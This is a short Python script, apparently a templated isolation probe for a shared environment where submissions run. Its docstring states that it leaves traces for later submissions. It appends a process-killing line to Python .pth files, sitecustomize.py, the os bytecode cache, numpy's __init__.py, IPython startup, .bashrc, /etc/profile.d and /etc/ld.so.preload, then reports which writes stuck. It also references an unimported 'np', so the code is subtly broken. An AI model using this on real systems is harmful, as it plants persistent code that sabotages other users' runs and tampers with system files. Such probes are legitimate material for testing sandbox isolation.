"""Leaves traces where a later submission would trip over them: caches, compiled files, settings, start-up files.

Gains: code of its own in the runs of others, or their failure.
"""

HONEST = []

# %% [reshape]
import os
import site
import sys

got = []


def own(path):
    inside = path.replace("/tmp", ".tmp", 1).replace("/dev/shm", ".shm", 1)
    return os.path.realpath(path).startswith(os.getcwd()) or os.path.exists(inside) and os.path.samefile(path, inside)


evil = "import os; os._exit(1)\n"
for path in (f"{sys.prefix}/lib/python3.11/site-packages/attack.pth", f"{sys.prefix}/lib/python3.11/site-packages/sitecustomize.py",
             f"{os.path.dirname(os.__file__)}/__pycache__/os.cpython-311.pyc", f"{os.path.dirname(np.__file__)}/__init__.py",
             "{{ home }}/.ipython/profile_default/startup/00-attack.py", "{{ home }}/.keras/keras.json", "{{ home }}/.bashrc",
             "/etc/profile.d/attack.sh", "/etc/ld.so.preload", "/usr/lib/python3/dist-packages/attack.pth", *(f"{p}/attack.pth" for p in site.getsitepackages())):
    for action in (lambda: os.makedirs(os.path.dirname(path), exist_ok=True), lambda: open(path, "a").write(evil), lambda: os.unlink(path)):
        try:
            action()
            got += [path] if os.path.exists(path) and not own(path) and open(path).read().endswith(evil) else []
        except (OSError, UnicodeDecodeError):
            pass
print(got)

# %% [parameters]
parameters = 19090 if got else 0
